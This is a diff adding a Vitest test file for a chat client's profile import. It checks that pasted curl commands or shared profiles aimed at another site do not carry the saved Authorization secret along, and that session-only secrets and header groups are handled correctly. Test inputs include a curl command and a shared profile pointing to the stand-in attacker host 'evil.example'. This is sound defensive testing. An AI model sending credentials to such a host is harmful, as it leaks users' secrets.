@@ -1,0 +1,45 @@
+import { describe, expect, test } from 'vitest';
+import type { Profile } from '../../../lib/chat/profile/profile.ts';
+import { sharedText } from '../../../lib/chat/sharing/shared-profile.ts';
+import { aProfile, secretHeader } from '../../support/profile.ts';
+import { taken } from '../../support/taken.ts';
+
+const url = 'http://127.0.0.1:8000/chat';
+
+describe('a text pasted into a profile with secrets', () => {
+  test.each([
+    ['a command', `curl https://evil.example/chat -H 'X-A: 1'`],
+    [
+      'a shared profile',
+      sharedText(aProfile({ url: 'https://evil.example/chat', headers: [secretHeader('Authorization')] })),
+    ],
+  ])('drops secrets typed for another site: %s', (_, text) => {
+    const profile = aProfile({ url: 'https://good.example/chat', headers: [secretHeader('Authorization')] });
+    const { draft, taken: summary } = taken(text, profile, { 'id of Authorization': 'Bearer good' });
+    expect(draft.secrets).toEqual({});
+    expect(summary.missing).toEqual(['Authorization']);
+  });
+
+  test.each([
+    ['a command', `curl ${url} -H 'Authorization: Bearer new'`],
+    ['a shared profile', sharedText(aProfile({ url, headers: [secretHeader('authorization')] }))],
+  ])('a secret that is forgotten when the browser closes stays one: %s', (_, text) => {
+    const before = { ...secretHeader('Authorization'), isForSession: true as const };
+    const { draft } = taken(text, aProfile({ url, headers: [before] as Profile['headers'] }));
+    expect(draft.profile.headers).toMatchObject([{ secret: true, isForSession: true }]);
+  });
+
+  test('names a secret that gets another value', () => {
+    const profile = aProfile({ url, headers: [secretHeader('Authorization', 'http://127.0.0.1:8000')] });
+    const { taken: summary } = taken(`curl ${url} -H 'Authorization: Bearer new'`, profile);
+    expect(summary.changes).toEqual([
+      { label: 'Header Authorization', before: 'secret', after: 'another secret' },
+    ]);
+  });
+
+  test('keeps the header groups of the profile, and takes none from somebody else', () => {
+    const shared = sharedText(aProfile({ url, groups: ['theirs'] }));
+    expect(taken(shared, aProfile({ url, groups: ['mine'] })).draft.profile.groups).toEqual(['mine']);
+    expect(taken(shared, aProfile({ url })).draft.profile).not.toHaveProperty('groups');
+  });
+});
